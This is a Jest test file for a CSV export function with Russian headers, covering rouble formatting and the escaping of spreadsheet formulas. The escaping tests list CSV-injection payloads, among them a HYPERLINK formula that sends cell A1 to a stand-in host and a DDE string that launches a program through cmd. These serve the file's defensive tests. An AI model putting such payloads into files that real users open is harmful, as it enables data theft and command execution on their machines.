import { describe, expect, it, test } from '@jest/globals';
import { parse } from 'csv-parse/sync';
import { csvOf } from './csv.js';
import type { Table, TableColumn } from './table.js';

type Row = { readonly name: string | null; readonly kopecks: number | null };
const columns: readonly TableColumn<Row>[] = [
  { header: 'Имя', kind: 'text', of: ({ name }) => name },
  { header: 'Сумма, ₽', kind: 'roubles', of: ({ kopecks }) => kopecks },
  { header: 'Сумма, коп.', kind: 'whole', of: ({ kopecks }) => kopecks },
];
const tableOf = (...pages: readonly (readonly Row[])[]): Table<Row> => ({
  name: 't',
  columns,
  pages: (async function* () {
    yield* pages;
  })(),
});
const written = async (...rows: readonly Row[]): Promise<string> =>
  (await Array.fromAsync(csvOf(tableOf(rows)))).join('');

it('has a line of headers, and one for every row, page by page', async () => {
  const pages = [[{ name: 'a', kopecks: 5 }], [{ name: 'b', kopecks: null }]];
  expect(await Array.fromAsync(csvOf(tableOf(...pages)))).toEqual([
    'Имя,"Сумма, ₽","Сумма, коп."\r\na,0.05,5\r\n',
    'b,,\r\n',
  ]);
});

it('of no rows has the headers', async () => {
  expect(await Array.fromAsync(csvOf(tableOf()))).toEqual(['Имя,"Сумма, ₽","Сумма, коп."\r\n']);
});

test.each([
  [0, '0.00'],
  [7, '0.07'],
  [-7, '-0.07'],
  [100, '1.00'],
  [-123_456, '-1234.56'],
  [Number.MAX_SAFE_INTEGER, '90071992547409.91'],
])('%d kopecks are %s roubles', async (kopecks, roubles) => {
  expect((await written({ name: '', kopecks })).split('\r\n')[1]).toBe(`,${roubles},${kopecks}`);
});

describe('a text that a spreadsheet would take for a formula is one no more', () => {
  test.each([
    '=1+1',
    '=HYPERLINK("http://example.org/?"&A1;"x")',
    '+7 391 2',
    '-2+3',
    '@SUM(1;2)',
    "|cmd|' /C calc'!A0",
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    ' =1+1',
    '\u00A0=1+1',
    '＝1+1',
    '＋1',
    '－1',
    '＠SUM(1)',
  ])('%j', async (name) => {
    const [, row] = parse(await written({ name, kopecks: 1 }));
    expect(row).toEqual([`'${name}`, '0.01', '1']);
  });

  test.each(['Клуб «Квант»', 'a=b', '1-2', 'е-mail', "'=1", '', '№ 1; "А", Б', 'в два\nряда'])(
    'but not %j',
    async (name) => {
      const [, row] = parse(await written({ name, kopecks: 1 }));
      expect(row).toEqual([name, '0.01', '1']);
    },
  );
});
